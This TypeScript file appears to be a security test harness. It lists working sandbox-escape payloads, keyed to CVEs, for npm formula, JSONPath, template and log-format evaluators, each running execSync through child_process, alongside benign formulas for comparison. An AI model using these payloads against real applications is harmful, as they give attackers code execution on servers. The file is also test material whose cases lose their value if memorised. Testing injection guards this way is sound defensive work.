import { postJson, type KnownCase } from '../case.ts';

interface Formula {
  readonly package: string;
  readonly id: string;
  readonly title: string;
  /** The formula that runs `code`, which is JavaScript without double quotes. */
  readonly exploit: (code: string) => string;
  /** Formulas of ordinary users, over { price: 12, count: 3, name: "Ann" } or `values`. */
  readonly ordinary: readonly string[];
  readonly values?: unknown;
}

const ARITHMETIC = ['price * count', '(price + 2) * count - 1', 'price > 10'];
const BOOKS = {
  store: {
    book: [
      { title: 'A', price: 5 },
      { title: 'B', price: 15 },
    ],
  },
};
const JSON_PATHS = ['$..name', '$.books[0]', '$..books[?(@.price<10)]'];
const PATHS = [
  '$.store.book[*].title',
  '$..price',
  '$.store.book[?(@.price < 10)].title',
  '$.store.book[(@.length-1)].title',
];

const formula = ({ package: name, id, title, exploit, ordinary, values }: Formula): KnownCase => {
  const path = `/formulas/${name}`;
  const given = values ?? { price: 12, count: 3, name: 'Ann' };
  return {
    app: 'formulas',
    package: name,
    id,
    guard: 'code-injection',
    title,
    attack(places) {
      const file = places.made();
      const code = `process.mainModule.require('child_process').execSync('touch ${file}')`;
      return {
        requests: [postJson(path, { formula: exploit(code), values: given })],
        effect: { kind: 'file', path: file },
      };
    },
    benign: () => ordinary.map((text) => postJson(path, { formula: text, values: given })),
  };
};

export default [
  formula({
    package: 'static-eval',
    id: '–',
    title: 'a key that is computed twice gives Function (npm advisory 758)',
    exploit: (code) =>
      `(function (y) { return ''[!y ? '__proto__' : 'constructor'][y]; })('constructor')("return ${code}")()`,
    ordinary: ARITHMETIC,
  }),
  formula({
    package: 'safe-eval',
    id: 'CVE-2017-16088',
    title: "the sandbox's this is an object of the host",
    exploit: (code) => `this.constructor.constructor("return process")().${code.slice('process.'.length)}`,
    ordinary: ARITHMETIC,
  }),
  formula({
    package: 'safe-eval-0.4.1',
    id: 'CVE-2023-26122',
    title: "a method that the sandbox's global inherits is the host's",
    exploit: (code) => `hasOwnProperty.constructor("return ${code}")()`,
    ordinary: ARITHMETIC,
  }),
  formula({
    package: 'safer-eval',
    id: 'CVE-2019-10759',
    title: 'a stack overflow of the host leads out of the sandbox',
    exploit: (code) =>
      `(function () { const f = Buffer.prototype.write; const ft = { length: 10, utf8Write() {} }; function r(i) { let x = 0; try { x = r(i); } catch (e) {} if (typeof x !== 'number') return x; if (x !== i) return x + 1; try { f.call(ft); } catch (e) { return e; } return null; } let i = 1; while (1) { try { i = r(i).constructor.constructor("return ${code}")(); break; } catch (x) { i++; } } return i; })()`,
    ordinary: ARITHMETIC,
  }),
  formula({
    package: 'mathjs',
    id: 'CVE-2017-1001002',
    title: 'the constructor of a function of the library is Function',
    exploit: (code) => `cos.constructor("return ${code}")()`,
    ordinary: ['price * count', 'sqrt(price + 4) * 2', 'round(price / count, 2)', 'f(x) = x ^ 2 + 1'],
  }),
  formula({
    package: 'expr-eval',
    id: 'CVE-2025-13204',
    title: 'names of the prototype are functions that a formula may call',
    exploit: (code) =>
      `f(x) = x; o = (constructor); d = o.values(o.getOwnPropertyDescriptors(o.getPrototypeOf(f))); g = d[4].value("return ${code}"); g()`,
    ordinary: ['price * count', 'max(price, count) + 1', 'price > 10 ? count : 0'],
  }),
  formula({
    package: 'angular-expressions',
    id: 'CVE-2024-54152',
    title: 'constructor under a name that is not looked at',
    exploit: (code) =>
      `constructor.getOwnPropertyDescriptor(constructor.getPrototypeOf(constructor.keys), "constructor").value("return ${code}")()`,
    ordinary: ['price * count', 'name + " (" + count + ")"', 'price > 10 ? "dear" : "cheap"'],
  }),
  formula({
    package: 'jsonpath-plus',
    id: 'CVE-2024-21534',
    title: 'a filter of the path is evaluated in a context that can be left',
    exploit: (code) => `$..[?(@root.constructor.constructor("return ${code}")())]`,
    ordinary: PATHS,
    values: BOOKS,
  }),
  formula({
    package: 'jsonpath-plus-10.2.0',
    id: 'CVE-2025-1302',
    title: "a filter of the path reaches the host's Function",
    exploit: (code) => `$..[?(p="this.${code}";a=''[['constructor']][['constructor']](p);a())]`,
    ordinary: PATHS,
    values: BOOKS,
  }),
  formula({
    package: 'jsonpath',
    id: 'CVE-2026-1615',
    title: "a filter of the path reaches the host's Function",
    exploit: (code) => `$..[?(({__proto__:[].constructor}).constructor("return ${code}")())]`,
    ordinary: JSON_PATHS,
    values: BOOKS,
  }),
  formula({
    package: 'expression-eval',
    id: '–',
    title: 'the constructor of a number leads to Function',
    exploit: (code) => `(1).constructor.constructor("return ${code}")()`,
    ordinary: [...ARITHMETIC, 'name == "Ann" ? price : 0'],
  }),
  formula({
    package: 'hot-formula-parser',
    id: 'CVE-2020-6836',
    title: 'what stands in a list is evaluated',
    exploit: (code) =>
      `SUM([(function(){${code.replace('mainModule.require', 'mainModule.constructor._load')}; return 1})(),2])`,
    ordinary: ['SUM(price, count)', 'IF(price > 10, "dear", "cheap")', 'SUM({1,2,3})'],
  }),
  formula({
    package: 'locutus',
    id: 'CVE-2026-29091',
    title: 'the name of a function of Math ends its quotes',
    exploit: (code) =>
      `Math.abs'];${code.replaceAll('process.mainModule.require', "globalThis['process']['mainModule']['require']").replaceAll(').', ')[`execSync`]').replace('[`execSync`]execSync', '[`execSync`]')};Math['abs`,
    ordinary: ['Math.max', 'Math.pow', 'isNaN'],
  }),
  formula({
    package: 'dom-iterator',
    id: 'CVE-2024-21541',
    title: 'what selects nodes becomes code',
    exploit: (code) =>
      `constructor.constructor("return ${code.replace('process.mainModule', "globalThis['process']['mainModule']")}")()`,
    ordinary: ['nodeType == 3', 'nodeType == 8', 'nodeType == 3 && nodeValue.length > 3'],
  }),
  formula({
    package: 'gray-matter',
    id: '–',
    title: 'the head of a page says that it is JavaScript (CVE-2025-65108 of md-to-pdf, which uses it)',
    exploit: (code) => `---js\n((${code}), { title: 'x' })\n---\nhello`,
    ordinary: [
      '---\ntitle: Ann\nlist: [1, 2]\n---\nhello',
      'no head (at all); but process.exit()',
      '---json\n{"title":"require(x)"}\n---\n',
    ],
  }),
  formula({
    package: 'morgan-json',
    id: 'CVE-2022-25921',
    title: 'the format of a log becomes code',
    exploit: (code) => `x: (${code}) , :method`,
    ordinary: [':method :status', ':method[a] and :status', ':status'],
  }),
  formula({
    package: 'typed-function',
    id: 'CVE-2017-1001004',
    title: 'the name of a function becomes code',
    exploit: (code) => `(a=${code.replaceAll("'", '"')}){}; return function`,
    ordinary: ['convert', 'toEuro2', '$price'],
  }),
] satisfies KnownCase[];
